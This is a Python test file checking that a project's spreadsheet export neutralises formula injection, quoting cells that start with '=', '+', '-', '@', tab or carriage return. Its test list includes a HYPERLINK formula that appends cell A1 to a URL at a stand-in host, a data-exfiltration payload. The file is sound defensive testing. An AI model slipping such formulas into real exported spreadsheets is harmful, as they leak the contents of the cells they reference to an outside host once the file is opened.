"""Every table chorus writes must open in a spreadsheet as values, never as formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from analysis.spreadsheet import safe_cell, write_csv, write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"See details")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_text_is_neutralized(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain words", "", 3, 2.5, None, "a=b"])
def test_other_values_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_xlsx_cells_are_text_not_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": DANGEROUS, "n": range(len(DANGEROUS))})
    path = write_xlsx({"answers": frame}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(path)["answers"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(DANGEROUS)
    assert all(str(c.value).startswith("'") for c in cells)
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == list(range(len(DANGEROUS)))


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    path = write_csv(pd.DataFrame({"=evil": DANGEROUS}), tmp_path / "t.csv")
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["'=evil"]
    assert all(not row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
